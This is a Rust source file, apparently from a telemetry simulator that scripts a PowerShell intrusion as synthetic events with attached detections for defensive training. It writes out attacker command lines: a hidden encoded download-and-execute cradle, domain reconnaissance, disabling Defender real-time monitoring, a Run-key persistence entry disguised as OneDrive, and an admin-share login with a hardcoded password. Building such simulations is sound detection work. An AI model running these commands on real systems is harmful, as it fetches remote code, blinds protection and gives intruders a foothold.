//! Somebody at the keyboard through PowerShell: a hidden download, a look around, the protection switched off.

use super::{Activity, Cast, Detection, Disposition, encoded_command, techniques as t};

/// The password with which the share is opened.
pub const SHARE_PASSWORD: &str = "Tern-Gale-4471!";

const POWERSHELL: &str = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";

pub fn tell(cast: &mut Cast<'_>) {
    let (domain, address) = (cast.strange_domain(), cast.strange_address());
    let page = cast.draw.letters(5);
    let script =
        format!("IEX (New-Object Net.WebClient).DownloadString('https://{domain}/{page}.ps1')");
    let explorer = cast.desktop();
    let shell = cast.process(
        0,
        explorer,
        r"C:\Windows\System32\cmd.exe",
        r#""C:\Windows\system32\cmd.exe" "#,
    );
    let first = cast.process(
        4_200,
        shell,
        POWERSHELL,
        &format!(
            "powershell.exe -nop -w hidden -enc {}",
            encoded_command(&script)
        ),
    );
    cast.does(4_900, first, Activity::Script { content: script });
    cast.calls(5_400, first, &domain, &address, 443);
    let stage = format!(r"C:\Users\Public\{}.ps1", cast.draw.letters(6));
    cast.writes(7_000, first, &stage);
    for (at, program, line) in [
        (21_000, "whoami.exe", "whoami /all".to_owned()),
        (
            33_500,
            "net.exe",
            r#"net  group "Domain Admins" /domain"#.to_owned(),
        ),
        (
            47_000,
            "nltest.exe",
            format!("nltest /dclist:{}", cast.fleet.domain),
        ),
        (61_000, "systeminfo.exe", "systeminfo".to_owned()),
        (74_000, "quser.exe", "quser".to_owned()),
    ] {
        let process = cast.process(at, first, &format!(r"C:\Windows\System32\{program}"), &line);
        cast.ends(process, at + 900);
    }
    let off = cast.process(96_000, first, POWERSHELL, "powershell -c \"Set-MpPreference -DisableRealtimeMonitoring $true; Add-MpPreference -ExclusionPath C:\\Users\\Public\"");
    cast.sets(
        97_100,
        off,
        r"HKLM\SOFTWARE\Microsoft\Windows Defender\Exclusions\Paths",
        r"C:\Users\Public",
        "0",
    );
    cast.ends(off, 98_000);
    let run_key = format!(
        r"HKU\{}\Software\Microsoft\Windows\CurrentVersion\Run",
        cast.user.sid
    );
    cast.sets(
        121_000,
        first,
        &run_key,
        "OneDriveSync",
        &format!("powershell.exe -w hidden -ep bypass -f {stage}"),
    );
    let server = cast.fleet.hosts[super::fleet::FILE_SERVER].local_ip.clone();
    let share = cast.process(
        143_000,
        first,
        r"C:\Windows\System32\net.exe",
        &format!(
            r"net  use \\{server}\C$ {SHARE_PASSWORD} /user:{}\{}",
            cast.user.domain, cast.user.name
        ),
    );
    cast.does(
        143_400,
        share,
        Activity::Connect {
            address: server,
            port: 445,
            user_agent: None,
            url: None,
        },
    );
    cast.ends(share, 144_500);
    cast.does(
        170_000,
        first,
        Activity::Connect {
            address,
            port: 443,
            user_agent: None,
            url: None,
        },
    );

    cast.detects(Detection {
        at: 5_000,
        process: first,
        pattern: 10417,
        name: "PowershellEncodedDownload",
        description: "A PowerShell process ran an encoded command that downloads and executes remote content. Review the command line and the script.",
        severity: 70,
        confidence: 80,
        technique: t::POWERSHELL,
        disposition: Disposition::Detected,
        prevalence: ("common", "common"),
    });
    cast.detects(Detection {
        at: 97_200,
        process: off,
        pattern: 10589,
        name: "SecurityToolTampering",
        description: "A process changed the settings of a security tool. Review the process tree.",
        severity: 70,
        confidence: 80,
        technique: t::DISABLE_TOOLS,
        disposition: Disposition::Detected,
        prevalence: ("common", "common"),
    });
}
